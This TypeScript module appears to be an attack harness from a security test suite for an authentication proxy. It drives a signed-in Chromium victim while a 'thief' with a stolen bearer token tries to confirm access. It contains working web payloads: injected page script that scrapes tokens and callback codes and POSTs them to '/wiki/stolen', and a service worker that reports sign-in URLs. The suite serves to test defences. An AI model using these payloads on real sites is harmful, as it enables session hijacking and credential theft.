/**
 * A person at a real Chromium, who opens a page of the origin server; and a thief who waits for what that page may
 * confirm.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import type { BrowserContext, Page } from 'playwright-core'
import { CHROMIUM, signInAs } from '../clients/chromium.ts'
import { RawConnection } from '../clients/raw-http.ts'
import type { OpenIdProvider } from '../op/openid-provider.ts'
import type { Credentials } from '../op/user-agent.ts'
import type { EchoOrigin } from '../origin/echo-origin.ts'

/** The thief's program. */
export const THIEF = 'git/2.50.1 (thief)'

export interface Victim extends AsyncDisposable {
  /** Opens a page with that script, lets it try, and then lets the thief try. */
  visit(script: string, fields: Readonly<Record<string, string>>): Promise<void>
}

const PAGE = '/wiki/page'
/** A script that leads its own window away says nothing any more. */
const TRY_MS = 3000
const LINK = /https?:\/\/[^\s"]+(\/\.torhaus\/confirm\/[A-Z2-7]{4}-[A-Z2-7]{4})/

const pageWith = (
  link: string,
  path: string,
  ofThief: string,
  script: string,
) => `<!doctype html><title>wiki</title><body><script type="module">
const here = '${path}'
const ofThief = '${ofThief}'
let path = new URL('${link}').origin === location.origin ? here : '${link}'
const wait = ms => new Promise(resolve => setTimeout(resolve, ms))
const steal = text => /name="token"|You are signed in|Confirm this access|(handed-over|callback)[?]code=/.test(text) && fetch('/wiki/stolen', { method: 'POST', body: text })
const send = text => fetch(path, { method: 'POST', body: new URLSearchParams({ token: /name="token" value="([^"]+)"/.exec(text)?.[1] ?? '' }) })
try {
  ${script}
} finally {
  document.title = 'done'
}
</script>`

/** Sees what sign-ins bring, and shows pages of its own: what a service worker of the whole origin could do. */
const WORKER = `
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', event => event.waitUntil(clients.claim()))
self.addEventListener('fetch', event => {
  if (event.request.url.includes('/.torhaus/')) event.waitUntil(fetch('/wiki/stolen', { method: 'POST', body: event.request.url }))
})`

export async function startVictim(
  publicUrl: string,
  op: OpenIdProvider,
  origin: EchoOrigin,
  user: Credentials,
): Promise<Victim> {
  // Loaded on demand: attacks without a browser need none.
  const { chromium } = await import('playwright-core')
  const browser = await chromium.launch(CHROMIUM)
  const context = await browser.newContext()
  const token = await op.issueAccessToken(user.name, { acr: undefined, amr: ['pwd'] })
  const theft = async () => {
    const headers = { Authorization: `Bearer ${token}`, 'User-Agent': THIEF }
    return (await fetch(`${publicUrl}/repo/info/refs?service=git-upload-pack`, { headers })).text()
  }
  return {
    async visit(script, fields) {
      const [link, path] = LINK.exec(await theft()) ?? []
      if (link === undefined || path === undefined) return
      const page = await signedIn(context, `${publicUrl}/wiki/`, user)
      serve(origin, pageWith(link, path, await signInOfThief(publicUrl), script), fields)
      await page.goto(publicUrl + PAGE).catch(() => undefined)
      await Promise.race([page.waitForFunction('document.title === "done"').catch(() => undefined), sleep(TRY_MS)])
      for (const open of context.pages()) await open.close()
      await theft()
    },
    [Symbol.asyncDispose]: () => browser.close(),
  }
}

/**
 * The address at which a sign-in of the thief's own browser goes on: the OP, or the hand-over of the session to it. Whoever
 * opens it is signed in there, and nowhere else.
 */
async function signInOfThief(publicUrl: string): Promise<string> {
  const { host, port } = new URL(publicUrl)
  const connection = await RawConnection.open(Number(port))
  connection.send(`GET /.torhaus/sign-in?return_to=/wiki/x HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
  const response = await connection.response().finally(() => connection.close())
  const next = new URL(response.one('Location') ?? '')
  const handOver = next.searchParams.get('return_to')
  return handOver === null ? next.href : next.origin + handOver
}

async function signedIn(context: BrowserContext, home: string, user: Credentials): Promise<Page> {
  const page = await context.newPage()
  await page.goto(home)
  if (new URL(page.url()).origin !== new URL(home).origin) {
    await signInAs(page, user)
    await page.waitForURL(home)
  }
  return page
}

function serve(origin: EchoOrigin, markup: string, fields: Readonly<Record<string, string>>): void {
  origin.answerWith((_, response, { target }) => {
    if (target.endsWith('/sw.js'))
      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' }).end(WORKER)
    else if (target === PAGE) response.writeHead(200, { 'Content-Type': 'text/html', ...fields }).end(markup)
    else response.writeHead(200, { 'Content-Type': 'text/plain' }).end('nothing')
  })
}
